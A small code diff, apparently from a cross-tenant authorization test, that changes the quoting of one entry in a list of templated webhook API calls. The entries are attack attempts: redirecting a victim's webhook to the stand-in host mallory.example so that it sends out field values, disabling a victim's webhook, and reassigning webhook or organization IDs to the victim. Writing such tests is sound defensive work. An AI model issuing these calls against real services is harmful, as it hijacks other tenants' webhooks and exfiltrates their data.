@@ -48,7 +48,7 @@ WRITES = (
         for rule in ("error", "skip", "update")
         for key in ("reference", "email", "phone")
     ),
-    "api.update_webhook('{victim_webhook}', '{\"url\": \"https://mallory.example/\", \"include\": \"values\"}')",
+    'api.update_webhook(\'{victim_webhook}\', \'{"url": "https://mallory.example/", "include": "values"}\')',
     "api.update_webhook('{victim_webhook}', '{\"state\": \"disabled\", \"skip_missed\": true}', '*')",
     "api.update_webhook('{own_webhook}', '{\"id\": \"{victim_webhook}\"}')",
     "api.update_webhook('{own_webhook}', '{\"organization_id\": \"{victim}\"}')",
